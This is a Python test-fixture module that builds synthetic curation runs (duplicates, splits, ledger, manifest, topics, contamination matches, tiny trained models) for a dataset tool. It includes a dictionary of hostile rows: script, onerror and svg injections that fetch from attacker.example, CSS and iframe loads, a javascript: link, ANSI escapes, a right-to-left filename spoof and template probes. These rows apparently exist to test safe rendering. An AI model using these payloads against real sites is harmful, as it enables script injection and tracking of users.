"""Runs to look at: one of any size made from numbers alone, and hostile rows that want to be more than text."""

from __future__ import annotations

from pathlib import Path

import numpy as np
import polars as pl

from siftune.curation import schema
from siftune.curation.atomic_files import write_json, write_parquet, write_text
from siftune.curation.run.folder import RunFolder
from siftune.curation.run.manifest import FORMAT, DiversityRecord
from siftune.curation.run.paths import training_name
from tests.training.random_adapters import write_trained
from tests.training.worlds import write_tiny_llama

RECIPE = """name: synthetic
sources:
  - path: alpha.jsonl
  - path: beta.jsonl
  - path: gamma.jsonl
encoder: null
keep: [row]
duplicates:
  near: {threshold: 0.8, floor: 0.65}
  conflicts: "off"
splits:
  test: 0.02
"""
_VOCABULARY = 30_000
_POOL = 20_000

HOSTILE = {
    "script": "<script>window.pwned = 1; fetch('http://attacker.example/script')</script>",
    "onerror": "<img src=x onerror=\"window.pwned = 2; fetch('http://attacker.example/onerror')\">",
    "markdown image": "![look](http://attacker.example/pixel.png) and [a link](javascript:window.pwned=3)",
    "style": "</style><style>@import url('http://attacker.example/style.css');</style>",
    "svg": '<svg onload="window.pwned=4"><use href="http://attacker.example/a.svg#x"/></svg>',
    "frame": "<iframe src='http://attacker.example/frame'></iframe><base href='http://attacker.example/'>",
    "latex": "$$\\def\\x{\\x\\x}\\x$$ $\\href{http://attacker.example/tex}{x}$ " + "$\\frac{" * 200,
    "ansi": "\x1b[31mred\x1b[0m \x1b]8;;http://attacker.example/osc\x07link\x1b]8;;\x07 \x00\x07",
    "override": "safe\u202egnp.exe\u202c \u2066isolated\u2069 \u200bzero\ufeffwidth",
    "directive": ":red[coloured] :material/home: :streamlit: :smile: `code` **bold** # head",
    "template": "{{7*7}} ${7*7} <%= 7*7 %> </div></div></body><plaintext>",
}


def hostile_messages() -> list[list[dict[str, str]]]:
    """One row for each attack, both as question and as answer, then 1 MB of one word and a row of 500 turns."""
    rows = [[_turn("user", f"attack {name}: {text}"), _turn("assistant", text)] for name, text in HOSTILE.items()]
    rows.append([_turn("user", "attack long word"), _turn("assistant", "x" * 1_000_000)])
    rows.append([_turn("user" if turn % 2 == 0 else "assistant", f"attack many turns {turn}") for turn in range(500)])
    rows.append([_turn("<script>window.pwned = 5</script>", "attack by role"), _turn("assistant", "fine")])
    return rows


def _turn(role: str, content: str) -> dict[str, str]:
    return {"role": role, "content": content}


def synthetic_run(folder: Path, *, rows: int = 2_000, seed: int = 0, hostile: bool = False) -> Path:
    """Write a run folder with the shape of a curated one: duplicates, splits, arms, matches, in fixed proportions.

    Of every hundred rows about five are exact, eight near duplicates of an earlier row; one in a thousand cannot be
    read. Texts are drawn from a pool of sentences, so that words are as uneven as in a language.
    """
    rng = np.random.default_rng(seed)
    frame = _fates(rows, rng)
    texts = _texts(frame, rng, hostile_messages() if hostile else [])
    measures = folder / "measures"
    files = {
        name: f"measures/{name}-0.parquet"
        for name in ("examples", "texts", "index", "checks", "exact", "prefixes", "near", "answers", "contamination")
    }
    for name, columns in (("examples", schema.EXAMPLES), ("texts", schema.TEXTS)):
        write_parquet(schema.conform(texts, columns), measures / f"{name}-0.parquet")
    readable = frame.filter(pl.col("fate") != "quarantined")
    index = readable.drop("stage", "reason").with_row_index("row").with_columns(split=pl.lit(None, pl.String))
    write_parquet(
        index.select([name for name in schema.INDEX if name not in ("rank", "pinned")]), folder / files["index"]
    )
    write_parquet(_pairs(frame, rng, "exact"), folder / files["exact"])
    write_parquet(_pairs(frame, rng, "near"), folder / files["near"])
    for name in ("prefixes", "answers"):
        write_parquet(schema.empty(schema.PAIRS), folder / files[name])
    write_parquet(schema.empty(schema.FINDINGS), folder / files["checks"])
    write_parquet(_matches(frame, rng), folder / files["contamination"])
    write_parquet(_ledger(frame), folder / "ledger.parquet")
    write_parquet(schema.conform(frame, schema.ROWS), folder / "rows.parquet")
    write_text("", folder / "quarantine.jsonl")
    write_text(RECIPE, folder / "recipe.yaml")
    write_json(_manifest(folder, frame, files), folder / "manifest.json")
    return folder


def _fates(rows: int, rng: np.random.Generator) -> pl.DataFrame:
    """ROWS, with `witness` (a position, or -1) and `score` of the dropped ones."""
    number = np.arange(rows)
    luck = rng.random(rows)
    stage = np.select([luck < 0.05, luck < 0.13, luck < 0.131], ["exact", "near", "ingest"], "")
    stage[: min(rows, 40)] = ""
    kept = np.flatnonzero(stage == "")
    earlier = np.searchsorted(kept, number)
    witness = np.where(
        np.isin(stage, ["exact", "near"]), kept[(rng.random(rows) * earlier).astype(int).clip(0, len(kept) - 1)], -1
    )
    score = np.where(stage == "exact", 1.0, np.round(0.8 + 0.2 * rng.random(rows), 6))
    split = np.where(stage == "", np.where(rng.random(rows) < 0.02, "test", "train"), "train")
    source = np.array(["alpha", "beta", "gamma"])[np.minimum(number * 3 // max(1, rows), 2)]
    arms = {"raw": (stage != "ingest") & (split == "train"), "curated": (stage == "") & (split == "train")}
    frame = pl.DataFrame(
        {
            "source": source,
            "fate": np.select([stage == "", stage == "ingest"], ["kept", "quarantined"], "dropped"),
            "stage": pl.Series(stage).replace("", None),
            "reason": pl.Series(stage).replace_strict(
                {"exact": "exact_duplicate", "near": "near_duplicate", "ingest": "not_an_object", "": None}
            ),
            "split": split,
            "group": number.astype(np.uint32),
            "turns": np.full(rows, 2, np.uint32),
            "prompt_words": (1 + rng.lognormal(2.5, 0.8, rows)).astype(np.uint32),
            "answer_words": (1 + rng.lognormal(3.8, 0.9, rows)).astype(np.uint32),
            "witness": witness,
            "score": score,
        }
    )
    members = [pl.when(pl.Series(mask)).then(pl.lit(arm)) for arm, mask in arms.items()]
    index = pl.int_range(pl.len()).over("source")
    return frame.with_columns(id=pl.format("{}:{}", "source", index), arms=pl.concat_list(members).list.drop_nulls())


def _texts(frame: pl.DataFrame, rng: np.random.Generator, hostile: list[list[dict[str, str]]]) -> pl.DataFrame:
    words = np.array(
        [f"{stem}{number}" for number in range(_VOCABULARY // 5) for stem in ("mo", "ka", "ti", "lu", "re")]
    )
    weight = 1 / np.arange(1, len(words) + 1)
    sizes = rng.integers(6, 22, _POOL)
    pool_words = words[rng.choice(len(words), sizes.sum(), p=weight / weight.sum())]
    ends = np.cumsum(sizes)
    pool = pl.Series(
        [" ".join(pool_words[end - size : end]).capitalize() + "." for end, size in zip(ends, sizes, strict=True)]
    )
    alive = frame.filter(pl.col("fate") != "quarantined")
    picks = [pool.gather(rng.integers(0, _POOL, alive.height)) for _ in range(6)]
    sentences = alive.with_columns(*[pick.alias(f"s{index}") for index, pick in enumerate(picks)])
    texts = sentences.select(
        "id",
        "source",
        prompt=pl.format("Explain {} {}", "id", "s0"),
        answer=pl.concat_str("s1", "s2", "s3", "s4", "s5", separator=" "),
    ).with_columns(core=pl.col("prompt"))
    if hostile:
        attacks = pl.DataFrame(
            [
                {"id": alive["id"][index], "prompt": turns[0]["content"], "answer": turns[-1]["content"]}
                for index, turns in enumerate(hostile)
            ]
        )
        texts = texts.update(attacks, on="id", how="left")
    messages = pl.concat_list(
        pl.struct(role=pl.lit("user"), content=pl.col("prompt")),
        pl.struct(role=pl.lit("assistant"), content=pl.col("answer")),
    )
    texts = texts.with_columns(messages=messages, meta=pl.lit("{}"), split=pl.lit(None, pl.String))
    if hostile:
        with_attacks = pl.Series(
            "messages", [*hostile, *texts["messages"][len(hostile) :].to_list()], dtype=schema.EXAMPLES["messages"]
        )
        texts = texts.with_columns(with_attacks)
    return texts


def _pairs(frame: pl.DataFrame, rng: np.random.Generator, measure: str) -> pl.DataFrame:
    ids = frame["id"]
    dropped = frame.with_row_index("at").filter(pl.col("stage") == measure)
    pairs = pl.DataFrame(
        {
            "a": ids.gather(dropped["witness"]),
            "b": dropped["id"],
            "measure": measure,
            "score": dropped["score"],
            "guarded": False,
        }
    )
    if measure == "exact":
        return schema.conform(pairs, schema.PAIRS)
    kept = np.flatnonzero((frame["fate"] == "kept").to_numpy())
    ends = np.sort(rng.choice(kept, (len(pairs), 2)), axis=1)
    ends = ends[ends[:, 0] < ends[:, 1]]
    below = pl.DataFrame(
        {
            "a": ids.gather(ends[:, 0]),
            "b": ids.gather(ends[:, 1]),
            "measure": measure,
            "score": np.round(0.65 + 0.1499 * rng.random(len(ends)), 6),
            "guarded": rng.random(len(ends)) < 0.1,
        }
    )
    return schema.conform(pl.concat([pairs, below]).unique(["a", "b"], maintain_order=True), schema.PAIRS)


def _matches(frame: pl.DataFrame, rng: np.random.Generator) -> pl.DataFrame:
    kept = frame.filter(pl.col("fate") == "kept")["id"]
    some = kept.gather(np.unique(rng.integers(0, len(kept), max(1, len(kept) // 500))))
    return schema.conform(
        pl.DataFrame({"id": some}).with_columns(
            reference=pl.format("gsm8k/test:{}", pl.int_range(pl.len())),
            rule=pl.lit("layered:near"),
            field=pl.lit("prompt"),
            score=pl.lit(0.7),
            span=pl.lit("how many apples <b>does</b> she have"),
        ),
        schema.MATCHES,
    )


def add_map(folder: Path) -> Path:
    """Give a synthetic run topics, three of them with hostile names, and a map on which they are apart."""
    run = RunFolder.open(folder)
    names = ["river, stone", *list(HOSTILE.values())[:3]]
    ids = pl.read_parquet(run.examples, columns=["id"])["id"]
    rng = np.random.default_rng(5)
    topic = rng.choice(4, len(ids), p=[0.4, 0.3, 0.2, 0.1])
    measured = pl.DataFrame(
        {
            "id": ids,
            "topic": [names[one] for one in topic],
            "x": topic + 0.1 * rng.standard_normal(len(ids)),
            "y": 0.1 * rng.standard_normal(len(ids)),
        }
    )
    measured = schema.conform(measured, schema.ROW_TOPICS)
    write_parquet(measured, folder / "measures" / "topics-0.parquet")
    rows = run.rows().drop("topic").join(measured.select("id", "topic"), on="id", how="left", maintain_order="left")
    write_parquet(schema.conform(rows, schema.ROWS), run.rows_path)
    manifest = run.manifest
    manifest.files["topics"] = "measures/topics-0.parquet"
    manifest.notes["topics"] = {"topics": "4", "projection": "principal components (20 % of the variance)"}
    manifest.diversity = DiversityRecord(rows_before=len(ids), rows_after=500, before=12.34, after=15.67)
    manifest.write(run.manifest_path)
    return folder


def contaminate(folder: Path) -> Path:
    """Let a synthetic run be one that was compared with a benchmark of hostile items, by rules and in other words.

    Sixty rows match: the first ten are items word for word, of the others the scores fall from 1 to 0.
    """
    from siftune.curation.review.matched_items import CONTAMINATION
    from siftune.curation.review.what_if import replay

    run = RunFolder.open(folder)
    manifest = run.manifest
    manifest.recipe = RECIPE.replace("encoder: null", "encoder: bag") + (
        "contamination:\n  threshold: 0.6\n  max_false_discovery: null\n  references: [{path: exam.jsonl}]\n"
    )
    manifest.write(run.manifest_path)
    run = RunFolder.open(folder)
    kept = run.rows().filter(pl.col("fate") == "kept")["id"].head(60)
    attacks = list(HOSTILE.values())
    lines = []
    for number, row_id in enumerate(kept):
        score = 1 - number / 60
        by_rule = number < 10
        outcome = "same" if by_rule or score >= 0.5 else "related"
        attack = attacks[number % len(attacks)]
        item = {"prompt": f"Explain {row_id} {attack}", "answer": attack, "distractors": [f"not {attack}"]}
        match = ("exam:" + str(number), "layered/exact" if by_rule else schema.PARAPHRASE, "prompt", outcome)
        lines.append((row_id, *match, 1.0 if by_rule else score, attack, f"shared: explain; {attack}", item))
    for row_id in kept.gather([20, 30]):
        decoy = ("exam:1", schema.PARAPHRASE, "prompt", "decoy", 0.97, "a decoy", "a decoy", None)
        lines.append((row_id, *decoy))
    matches = pl.DataFrame(lines, schema=schema.MATCHES, orient="row")
    write_parquet(matches, run.file(CONTAMINATION))
    # The stage's own decisions, in the ledger and in the rows.
    decisions = replay(run, {}).decisions[CONTAMINATION]
    entries = decisions.with_columns(step=pl.lit(7, pl.Int32), stage=pl.lit(CONTAMINATION))
    write_parquet(pl.concat([run.ledger(), schema.conform(entries, schema.LEDGER)]), run.ledger_path)
    dropped = decisions.filter(pl.col("action") == "drop")
    fates = dropped.select("id", "reason", fate=pl.lit("dropped"), stage=pl.lit(CONTAMINATION))
    write_parquet(schema.conform(run.rows().update(fates, on="id"), schema.ROWS), run.rows_path)
    return folder


def _ledger(frame: pl.DataFrame) -> pl.DataFrame:
    decided = frame.filter(pl.col("stage").is_not_null())
    step = {"ingest": 0, "exact": 3, "near": 4}
    lines = decided.with_columns(
        step=pl.col("stage").replace_strict(step, return_dtype=pl.Int32),
        action=pl.when(pl.col("stage") == "ingest").then(pl.lit("quarantine")).otherwise(pl.lit("drop")),
        threshold=pl.when(pl.col("stage") == "near").then(0.8).when(pl.col("stage") == "exact").then(1.0),
        score=pl.when(pl.col("stage") != "ingest").then("score"),
        witness=frame["id"].gather(decided["witness"].clip(0)),
        detail=pl.lit(None, pl.String),
    )
    witness = pl.when(pl.col("stage") != "ingest").then("witness").alias("witness")
    return schema.conform(lines.with_columns(witness).sort("step", maintain_order=True), schema.LEDGER)


def _manifest(folder: Path, frame: pl.DataFrame, files: dict[str, str]) -> dict[str, object]:
    left, stages = frame.height, []
    for stage in ("ingest", "exact", "near"):
        lost = int((frame["stage"] == stage).sum())
        stages.append(
            {
                "stage": stage,
                "rows": left,
                "kept": left - lost,
                "actions": {},
                "seconds": 0.0,
                "peak_mb": 0.0,
                "reused": False,
            }
        )
        left -= lost
    naive = [{"measure": "near", "test_rows": 40, "expected": 5.5, "share": 0.1375, "low": 0.05, "high": 0.225}]
    certificate = {"passed": True, "pairs": 0, "comparisons": 1_000, "rows": {"test": 40, "train": frame.height - 40}}
    return {
        "siftune": {"format": FORMAT, "version": "0.1.0"},
        "status": "curated",
        "recipe_name": "synthetic",
        "recipe": RECIPE,
        "recipe_folder": str(folder),
        "seed": 0,
        "files": files,
        "stages": stages,
        "naive_split": naive,
        "certificate": certificate,
    }


def trained_run(folder: Path, model: Path, *, arms: tuple[str, ...] = ("raw", "curated")) -> Path:
    """A synthetic run whose arms were trained: two-layer Llamas with adapters that answer differently, a verdict,
    an answered suite.
    """
    from siftune.training.evaluation.prompt_suite import answer_suite
    from siftune.training.evaluation.verdict import compute_verdict
    from siftune.training.evaluation.verdict_report import write_verdict

    synthetic_run(folder, rows=400, hostile=True)
    recipe = RECIPE + (
        f"model: {{name: {model}, load: fp32}}\n"
        "training: {arms: [raw, curated], budget: {steps: 6}, seeds: [0], max_length: 512, batch_rows: 4,"
        " micro_rows: 2}\n"
        "compare: {bootstrap: 1000, permutations: 1000, max_new_tokens: 12, default_prompts: false,"
        " prompts: [{text: 'What colour has door 3?', name: door}, {text: 'What is 1 + 1?', expect: '2'}]}\n"
    )
    write_text(recipe, folder / "recipe.yaml")
    manifest = RunFolder.open(folder).manifest
    manifest.recipe = recipe
    manifest.write(folder / "manifest.json")
    _arms(folder, arms)
    write_trained(folder, model, arms)
    run = RunFolder.open(folder)
    for number, arm in enumerate(arms):
        _log(run.training(arm, 0), number)
    _losses(run, arms)
    answer_suite(run)
    write_verdict(compute_verdict(run, run.recipe.compare, training=run.recipe.training), run)
    return folder


def tiny_model(folder: Path) -> Path:
    """A random two-layer Llama with its tokenizer."""
    return write_tiny_llama(folder)


def _arms(folder: Path, arms: tuple[str, ...]) -> None:
    run = RunFolder.open(folder)
    rows, examples = run.rows(), pl.read_parquet(run.examples)
    for arm in arms:
        held = rows.filter(pl.col("arms").list.contains(arm)).select("id", "group")
        frame = examples.join(held, on="id", how="inner", maintain_order="left").with_columns(why=pl.lit("kept"))
        write_parquet(schema.conform(frame, schema.ARM), folder / "arms" / f"{arm}.parquet")


def _log(folder: Path, number: int) -> None:
    from siftune.training.result import LOG_COLUMNS

    step = np.arange(1, 31)
    loss = 2.5 * np.exp(-step / (12 + 4 * number)) + 0.7 + 0.02 * np.sin(step)
    columns = {"step": step, "loss": loss, "learning_rate": np.full(30, 2e-4), "grad_norm": 0.3 + 1 / step}
    frame = pl.DataFrame({**columns, "tokens": step * 400, "seconds": step * 1.7})
    write_parquet(schema.conform(frame, LOG_COLUMNS), folder / "log.parquet")


def _losses(run: RunFolder, arms: tuple[str, ...]) -> None:
    from siftune.training.evaluation.losses import LOSS_COLUMNS

    rng = np.random.default_rng(1)
    count = 60
    tokens = rng.integers(5, 60, count)
    hard = rng.gamma(8, 0.3, count)
    for number, arm in enumerate(["base", *arms]):
        loss = hard - 0.2 * number + 0.05 * rng.standard_normal(count)
        frame = pl.DataFrame(
            {
                "id": [f"alpha:{row}" for row in range(count)],
                "nll": loss * tokens,
                "tokens": tokens,
                "group": np.arange(count),
                "source": "alpha",
                "length_bin": np.where(tokens < 30, "short", "long"),
                "leaked": np.arange(count) % 4 == 0,
                "mask_hash": "h",
                "bytes": tokens * 4,
            }
        )
        name = arm if arm == "base" else training_name(arm, 0)
        write_parquet(schema.conform(frame, LOSS_COLUMNS), run.losses(name))
